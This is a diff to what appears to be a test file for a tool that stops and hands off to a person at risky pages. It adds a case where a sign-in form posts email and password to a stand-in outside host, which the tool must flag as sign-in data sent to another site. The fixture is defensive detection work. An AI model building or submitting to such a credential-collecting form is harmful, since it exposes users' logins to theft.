@@ -43,6 +43,11 @@ describe('what only a person can do ends the try, and says what it is', () => {
       'your sign-in data to be sent to another site',
     ],
     [
+      'a form that a recipe knows and that sends to a stranger',
+      '<form method="post" action="https://collect.stranger.example/in"><input id="userNameInput" name="UserName" type="email"><input id="passwordInput" name="Password" type="password"><span id="submitButton" role="button">Sign in</span></form>',
+      'your sign-in data to be sent to another site',
+    ],
+    [
       'terms beside nothing',
       '<h1>Terms of use</h1><p>Please read our terms of use.</p><button>Accept</button><button>Decline</button>',
       'terms to be accepted',
